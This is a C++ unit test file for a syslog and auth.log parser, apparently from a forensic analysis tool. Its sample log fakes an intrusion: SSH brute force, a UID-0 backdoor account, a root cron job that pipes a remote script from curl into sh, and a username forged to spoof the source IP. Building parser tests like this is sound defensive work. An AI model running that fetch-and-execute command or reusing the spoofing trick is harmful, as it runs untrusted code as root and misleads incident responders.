// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "deadbox/util/time_format.hpp"
#include "unit/parsers/parser_test_util.hpp"

namespace deadbox::parsers {
namespace {
using testing::run_parser;
using testing::source_at;
using namespace std::string_literals;

int64_t at(std::string_view iso) {
  return *timefmt::parse_iso(iso);
}

const Record* with_event(const std::vector<Record>& rs, std::string_view ev, size_t nth = 0) {
  for (const auto& r : rs)
    if (r.str("event") == ev && nth-- == 0) return &r;
  return nullptr;
}

constexpr std::string_view kAuthLog =
    R"(Jul  1 03:00:01 web1 sshd[811]: Failed password for invalid user admin from 198.51.100.23 port 40112 ssh2
Jul  1 03:00:05 web1 sshd[811]: message repeated 5 times: [ Failed password for root from 198.51.100.23 port 40114 ssh2]
Jul  1 03:00:09 web1 sshd[811]: Invalid user oracle from 198.51.100.23 port 40120
Jul  1 03:01:00 web1 sshd[900]: Accepted password for root from 198.51.100.23 port 40200 ssh2
Jul  1 03:02:00 web1 sshd[950]: Accepted publickey for alice from 10.0.0.5 port 50000 ssh2: ED25519 SHA256:abc
Jul  1 03:03:00 web1 useradd[1001]: new user: name=backd00r, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0
Jul  1 03:03:00 web1 useradd[1001]: new group: name=backd00r, GID=1002
Jul  1 03:04:00 web1 userdel[1010]: delete user 'tmpuser'
Jul  1 03:04:00 web1 userdel[1010]: removed group 'tmpuser' owned by 'tmpuser'
Jul  1 03:04:00 web1 userdel[1010]: removed shadow group 'tmpuser' owned by 'tmpuser'
Jul  1 03:05:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update
Jul  1 03:06:00 web1 su[1100]: (to root) alice on pts/0
Jul  1 03:07:01 web1 CRON[1200]: (root) CMD (curl -s http://198.51.100.7/x.sh | sh)
Jul  1 03:08:00 web1 sshd[1300]: Failed password for invalid user evil from 1.2.3.4 port 1 from 6.6.6.6 port 22 ssh2
this line is not syslog
)";

TEST(SyslogParser, ExtractsAuthEvents) {
  const auto p = run_parser("linux/log/syslog", kAuthLog,
                            source_at("/var/log/auth.log", at("2024-07-02T00:00:00Z")));
  const auto& r = p.of("linux/log/syslog");
  ASSERT_EQ(r.size(), 14u);
  EXPECT_EQ(r[0].time("time"), at("2024-07-01T03:00:01Z"));
  EXPECT_EQ(r[0].str("hostname"), "web1");
  EXPECT_EQ(r[0].str("program"), "sshd");
  EXPECT_EQ(r[0].i64("pid"), 811);
  EXPECT_EQ(r[0].str("event"), "ssh_failed");
  EXPECT_EQ(r[0].flag("invalid_user"), true);
  EXPECT_EQ(r[0].str("user"), "admin");
  EXPECT_EQ(r[0].str("src_ip"), "198.51.100.23");
  EXPECT_EQ(r[0].i64("src_port"), 40112);
  EXPECT_EQ(r[0].str("line_text"), kAuthLog.substr(0, kAuthLog.find('\n')));
  EXPECT_EQ(r[1].i64("repeat"), 5);
  EXPECT_EQ(r[1].str("user"), "root");
  EXPECT_EQ(r[1].str("message"), "Failed password for root from 198.51.100.23 port 40114 ssh2");
  EXPECT_EQ(r[2].str("event"), "ssh_invalid_user");
  EXPECT_EQ(r[2].str("user"), "oracle");
  EXPECT_EQ(r[3].str("event"), "ssh_accepted");
  EXPECT_EQ(r[3].str("method"), "password");
  EXPECT_EQ(r[4].str("method"), "publickey");
  EXPECT_EQ(r[4].str("user"), "alice");
  const Record* add = with_event(r, "user_added");
  ASSERT_NE(add, nullptr);
  EXPECT_EQ(add->str("user"), "backd00r");
  EXPECT_EQ(add->i64("uid"), 0);
  EXPECT_EQ(add->str("shell"), "/bin/bash");
  EXPECT_EQ(with_event(r, "group_added")->str("group"), "backd00r");
  EXPECT_EQ(with_event(r, "user_deleted")->str("user"), "tmpuser");
  EXPECT_EQ(with_event(r, "group_removed")->str("group"), "tmpuser");
  EXPECT_EQ(with_event(r, "shadow_removed")->str("group"), "tmpuser");
  const Record* sudo = with_event(r, "sudo");
  EXPECT_EQ(sudo->str("user"), "alice");
  EXPECT_EQ(sudo->str("target_user"), "root");
  EXPECT_EQ(sudo->str("command"), "/usr/bin/apt update");
  EXPECT_EQ(with_event(r, "su")->str("user"), "alice");
  const Record* cron = with_event(r, "cron_cmd");
  EXPECT_EQ(cron->str("user"), "root");
  EXPECT_EQ(cron->str("command"), "curl -s http://198.51.100.7/x.sh | sh");
  // An attacker-typed user name containing " from …" must not override sshd's own suffix.
  const Record* spoof = with_event(r, "ssh_failed", 2);
  ASSERT_NE(spoof, nullptr);
  EXPECT_EQ(spoof->str("src_ip"), "6.6.6.6");
  EXPECT_EQ(spoof->str("user"), "evil from 1.2.3.4 port 1");
  EXPECT_TRUE(p.has_diag("unparsed_lines"));
}

TEST(SyslogParser, InfersYearsAcrossNewYearFromMtime) {
  const auto p = run_parser("linux/log/syslog",
                            "Dec 30 23:00:00 h cron[1]: a\n"
                            "Dec 31 23:59:59 h cron[1]: b\n"
                            "Jan  1 00:00:01 h cron[1]: c\n"
                            "Feb 10 08:00:00 h cron[1]: d\n",
                            source_at("/var/log/syslog.1", at("2025-02-11T06:25:00Z")));
  const auto& r = p.of("linux/log/syslog");
  ASSERT_EQ(r.size(), 4u);
  EXPECT_EQ(r[0].time("time"), at("2024-12-30T23:00:00Z"));
  EXPECT_EQ(r[1].time("time"), at("2024-12-31T23:59:59Z"));
  EXPECT_EQ(r[2].time("time"), at("2025-01-01T00:00:01Z"));
  EXPECT_EQ(r[3].time("time"), at("2025-02-10T08:00:00Z"));
}

TEST(SyslogParser, LastLineAfterMtimeMonthBelongsToPreviousYear) {
  // Rotated in early January; the file ends in December of the year before.
  const auto p = run_parser("linux/log/syslog", "Dec 31 10:00:00 h k: x\n",
                            source_at("/var/log/messages-20250101", at("2025-01-01T00:00:05Z")));
  EXPECT_EQ(p.of("linux/log/syslog")[0].time("time"), at("2024-12-31T10:00:00Z"));
}

TEST(SyslogParser, WithoutMtimeBsdTimesStayEmpty) {
  const auto p = run_parser("linux/log/syslog", "Mar  3 10:00:00 h k: x\n", source_at("/x"));
  ASSERT_EQ(p.of("linux/log/syslog").size(), 1u);
  EXPECT_FALSE(p.of("linux/log/syslog")[0].time("time"));
  EXPECT_TRUE(p.has_diag("year_unknown"));
}

TEST(SyslogParser, ParsesIsoAndRfc5424Forms) {
  const auto p = run_parser(
      "linux/log/syslog",
      "2024-07-01T03:00:00.123456+08:00 web1 sshd[77]: Accepted publickey for bob from "
      "192.168.1.9 port 5000 ssh2\r\n"
      "<38>1 2024-07-01T03:00:00.5Z web1 sshd 78 - [meta x=\"a]b\"] Failed password for root "
      "from 203.0.113.9 port 22 ssh2\n"
      "<13>1 - - - - - -\n",
      source_at("/var/log/auth.log"));
  const auto& r = p.of("linux/log/syslog");
  ASSERT_EQ(r.size(), 3u);
  EXPECT_EQ(r[0].time("time"), at("2024-06-30T19:00:00.123456Z"));
  EXPECT_EQ(r[0].str("time_format"), "iso");
  EXPECT_EQ(r[0].str("event"), "ssh_accepted");
  EXPECT_EQ(r[0].i64("src_port"), 5000);
  EXPECT_EQ(r[1].str("time_format"), "rfc5424");
  EXPECT_EQ(r[1].str("program"), "sshd");
  EXPECT_EQ(r[1].i64("pid"), 78);
  EXPECT_EQ(r[1].str("event"), "ssh_failed");
  EXPECT_EQ(r[1].str("src_ip"), "203.0.113.9");
  EXPECT_FALSE(r[2].time("time"));
}

TEST(SyslogParser, RecognisesZmodemAndKeepsHostileBytes) {
  const std::string text =
      std::string("Jul  1 03:00:00 h kernel: tty rz waiting to receive.**B0100000023be50\n") +
      "Jul  1 03:00:01 h rz[55]: ZMODEM receive: /tmp/.x/miner\n" +
      "Jul  1 03:00:02 h sshd[1]: Failed password for \x1b[31mred\0nul from 9.9.9.9 port 1 ssh2\n"s;
  const auto p = run_parser("linux/log/syslog", text,
                            source_at("/var/log/messages", at("2024-07-02T00:00:00Z")));
  const auto& r = p.of("linux/log/syslog");
  ASSERT_EQ(r.size(), 3u);
  EXPECT_FALSE(r[0].str("event"));
  EXPECT_EQ(r[1].str("event"), "zmodem");
  EXPECT_EQ(r[2].str("user"), std::string("\x1b[31mred\0nul", 12));
}

}  // namespace
}  // namespace deadbox::parsers
